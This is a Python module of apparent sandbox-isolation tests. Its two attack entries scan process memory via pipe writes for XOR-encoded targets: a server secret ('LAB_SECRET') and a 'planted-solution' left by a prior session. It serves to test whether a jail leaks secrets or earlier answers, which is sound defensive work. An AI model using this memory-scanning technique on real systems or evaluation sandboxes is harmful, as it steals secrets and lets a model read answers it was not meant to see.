# ruff: noqa: E501, RUF100  the code of cells
"""Secrets looked for in the attacker's own memory, which began as a copy of a root's that others began as, too.

Enters: nothing. Leaves: attacks in the form of the table. Invariant: what is looked for is written here as numbers only,
so that the code of the attack is not what it finds.
"""

from __future__ import annotations

from jail.attacks import Attack

SCAN = """
flip = bytes(i ^ 0x5a for i in range(256))
r, w = os.pipe()
def search(wanted, anchors):
    "All pages around the anchors, up and down until 512 in a row are not there; a write of one that is not there fails."
    pages = set()
    for anchor in anchors:
        for step in (1, -1):
            page, missing = anchor & ~4095, 0
            while missing < 512 and page not in pages and page > 0:
                if libc.write(w, ctypes.c_void_p(page), ctypes.c_size_t(4096)) == 4096:
                    pages.add(page); missing = 0
                    if wanted in os.read(r, 4096).translate(flip): won.append(hex(page))
                else:
                    missing += 1
                page += 4096 * step
    return len(pages)
libc.sbrk.restype = ctypes.c_void_p
anchors = [id(won), id(os), id(search), id("text" * 9), id(bytes(1 << 16)), libc.sbrk(0) - 1, ctypes.addressof(ctypes.create_string_buffer(9))]
"""

IN_MEMORY = (
    Attack(
        id="o29-secrets-of-the-server-in-memory",
        code=SCAN
        + """
seen = search(bytes([22, 27, 24, 5, 9, 31, 25, 8, 31, 14]), anchors)
print("WON" if won else "HELD" if seen > 1000 else "SAW TOO LITTLE", seen, won)
""",
    ),
    Attack(
        id="o30-what-the-session-before-had-in-memory",
        runs=2,
        code=SCAN
        + """
words = [112, 108, 97, 110, 116, 101, 100, 45, 115, 111, 108, 117, 116, 105, 111, 110]
wanted = bytes(c ^ 0x5a for c in words)
search(wanted, anchors); before = len(won)
kept = [bytes(words) * 9 for _ in range(999)]
search(wanted, [*anchors, id(kept[500])]); after = len(won)  # what it leaves for the next, and a proof that it can find
print("WON" if before else "HELD" if after else "CANNOT FIND ITS OWN", before, after)
""",
    ),
)
